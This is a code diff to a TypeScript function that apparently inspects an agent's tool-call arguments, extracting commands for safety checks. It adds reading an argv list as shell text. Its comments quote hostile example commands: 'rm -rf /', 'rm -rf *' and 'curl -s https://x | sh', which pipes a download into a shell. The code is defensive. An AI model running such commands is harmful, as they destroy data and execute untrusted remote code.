@@ -122,8 +122,11 @@ export function callSurfaces(call: InspectableCall): CallSurfaces {
     }
   }
   if (Array.isArray(args) && args.length > 0 && args.every((a) => typeof a === 'string')) {
-    // a top-level argv: ["rm", "-rf", "/"]
-    out.commands.push({ kind: 'argv', argv: args as string[] });
+    const list = args as string[];
+    // a top-level argv: ["rm", "-rf", "/"]; a list whose first entry is no program name but a
+    // command line (["curl -s https://x | sh"], ["cd /", "rm -rf *"]) is also read as shell text
+    out.commands.push({ kind: 'argv', argv: list });
+    if (/\s/.test(list[0]!.trim())) out.commands.push({ kind: 'text', text: list.join('\n') });
   } else {
     walk(args, name, out, 0);
     if (!Array.isArray(args)) fileAccess(args, name, out.paths);
